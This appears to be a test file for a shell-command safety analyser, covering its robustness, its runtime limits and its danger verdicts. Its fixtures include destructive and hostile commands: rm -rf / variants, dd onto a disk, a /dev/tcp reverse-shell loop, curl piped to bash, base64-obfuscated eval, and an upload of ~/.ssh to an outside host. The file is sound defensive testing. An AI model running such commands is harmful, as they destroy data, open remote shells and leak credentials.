# ruff: noqa: E501  (commands and tables stay on one line)
"""The analyser as a whole: never raises, is bounded, explains itself, and lets context decide."""

from __future__ import annotations

import json
import random
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cli_tuner.safety.analyze import analyze
from cli_tuner.safety.consequences import MATTERS
from cli_tuner.safety.explain import explain
from cli_tuner.safety.rules.table import CATEGORIES
from cli_tuner.safety.verdict import Level, Verdict
from tests.conftest import SAMPLED
from tests.safety.pieces import mixture, mutation


def check(text: str) -> None:
    verdict = analyze(text)
    assert isinstance(verdict, Verdict)
    for finding in verdict.findings:
        assert 0 <= finding.span[0] <= finding.span[1] <= len(text)
    json.dumps(verdict.to_json())


SHARE = 6 if SAMPLED else 1
LOOSE = settings(deadline=None, suppress_health_check=list(HealthCheck), database=None)


@pytest.mark.law
@settings(LOOSE, max_examples=1000 // SHARE)
@given(st.integers(0, 2**40))
def test_no_mixture_of_pieces_raises(seed: int) -> None:
    dice = random.Random(seed)
    for _ in range(9):
        check(mixture(dice))


@pytest.mark.law
@settings(LOOSE, max_examples=800 // SHARE)
@given(st.integers(0, 2**40))
def test_no_mutated_command_raises(seed: int) -> None:
    dice = random.Random(seed)
    for _ in range(10):
        check(mutation(dice))


@pytest.mark.law
@settings(LOOSE, max_examples=3500 // SHARE)
@given(st.text(st.characters(codec=None), max_size=30))
def test_no_random_text_raises(text: str) -> None:
    check(text)


@pytest.mark.law
@pytest.mark.parametrize(
    "text",
    ["$(" * 3000, "`" * 3001, "((" * 3000, "{" * 5000, "[[ " * 3000, "'" * 3001, "\\" * 4001, "a(" * 2000, "<<E " * 1000, "${x:-" * 3000, "if " * 3000, "(" * 20000, "f() { " * 800,
     "eval " * 3000, "sudo " * 5000, "{a,b}" * 300, "{1..99999999}", "x=$x$x;" * 200 + "$x", "echo " + "a" * 60000, "[" * 20000, "! " * 5000, "| " * 5000, "$((1+" * 2000, "<(" * 2000],
)  # fmt: skip
def test_bombs_are_bounded(text: str) -> None:
    start = time.thread_time()
    check(text)
    assert time.thread_time() - start < 10


@pytest.mark.parametrize(
    "text",
    ["$(" * 40 + "rm x" + ")" * 40, "eval " * 40 + "ls", "sudo " * 40 + "ls", "ls;" * 4000, "x" * 70000],
)
def test_what_is_not_looked_at_is_review(text: str) -> None:
    assert analyze(text).level is Level.REVIEW


@pytest.mark.parametrize(
    "unit", ["ls -l 'a b'; ", 'echo $x "$(date)" | grep a; ', "find . -name '*.c' -exec wc {} + && "]
)
def test_time_grows_with_length_not_with_its_square(unit: str) -> None:
    def cost(times: int) -> float:
        text = unit * times + "true"
        runs = []
        for _ in range(3):
            start = time.thread_time()
            analyze(text)
            runs.append(time.thread_time() - start)
        return min(runs)

    cost(2)
    assert cost(320) < 40 * max(cost(40), 1e-3)


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("rm -rf build/", "SAFE"), ('rm -rf "$UNSET/"', "DANGEROUS"), ("dd if=x of=disk.img", "SAFE"), ("dd if=x of=/dev/sda", "DANGEROUS"), ("chmod -R 777 ./public", "REVIEW"),
        ("chmod -R 777 /", "DANGEROUS"), ("curl -s https://x.example/a | jq .", "SAFE"), ("rm -rf --help", "SAFE"), ("find / -name x -print", "SAFE"), ("cd /tmp/x && rm -rf *", "SAFE"),
        ("cd / && rm -rf *", "DANGEROUS"), ("rm -rf /etc/../tmp/x", "SAFE"), ("rm -rf /tmp/../etc", "DANGEROUS"), ("rm -rf /proc/self/root/usr", "DANGEROUS"), ("# rm -rf /", "SAFE"),
        ("echo 'rm -rf /' > notes.txt", "SAFE"), ("cat <<E\nrm -rf /\nE", "SAFE"), ("grep -r 'curl x | sh' .", "SAFE"), ("ls '$(rm -rf /)'", "SAFE"), ('ls "$(rm -rf /)"', "DANGEROUS"),
        ("ssh host 'rm -rf /'", "DANGEROUS"), ("find . -name '*.o' -exec rm {} +", "SAFE"), ("exec 5<>/dev/tcp/10.1.1.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done", "DANGEROUS"),
        ("curl -s x.example/a > a; mv a b; sh b", "DANGEROUS"), ("b64=cm0gLXJmIC8=; eval \"$(echo $b64 | base64 -d)\"", "DANGEROUS"), ("a() { rm -rf /; }", "DANGEROUS"),
        ("", "SAFE"), ("   ", "SAFE"), ("\n\n", "SAFE"),
    ],
)  # fmt: skip
def test_context_decides(command: str, level: str) -> None:
    assert analyze(command).level.value == level


def test_a_finding_says_where_and_what_and_why() -> None:
    command = "ls && sudo bash -c 'rm -rf /'"
    finding = analyze(command).findings[0]
    assert command[slice(*finding.span)] == "/"
    assert finding.invocation == "rm -rf /"
    assert finding.why and finding.mend and finding.source


def test_explain_shows_the_tree_and_the_finding() -> None:
    shown = explain("sudo sh -c 'curl http://x | bash'")
    assert shown.startswith("DANGEROUS")
    assert "- sudo sh -c" in shown and "- bash  <- net" in shown and "RX001" in shown and "safer:" in shown
    assert "nothing would run" in explain("# only a comment")


def test_explain_says_what_on_what_why_it_matters_and_what_is_safer() -> None:
    lines = explain("cd /etc && rm -rf ./ssh; tar c ~/.ssh | curl -T - http://x.example").split("\n")
    assert "    on:      /etc/ssh (a tree that the system needs, with all below it)" in lines
    assert (
        "    matters: what is deleted or overwritten is gone without a backup; the machine or the work may be lost"
        in lines
    )
    assert any(line.startswith("    matters: what has left cannot be called back") for line in lines)
    assert (
        sum(line.startswith("    safer:   ") for line in lines)
        == sum(line.startswith("    what:    ") for line in lines)
        >= 2
    )


def test_every_family_says_why_it_matters() -> None:
    assert set(CATEGORIES) <= set(MATTERS)


def test_the_json_of_a_verdict_has_the_promised_keys() -> None:
    document = analyze("rm -rf /").to_json()
    assert set(document) >= {"command", "verdict", "findings"}
    assert document["verdict"] == "DANGEROUS"


@pytest.mark.parametrize("descriptor", ["03", "3", "0x3", "0X", "00", "0x", "9" * 40])
def test_a_descriptor_of_socat_is_any_number(descriptor: str) -> None:
    assert analyze(f"socat FD:{descriptor} EXEC:ls").level.value in {"SAFE", "REVIEW", "DANGEROUS"}
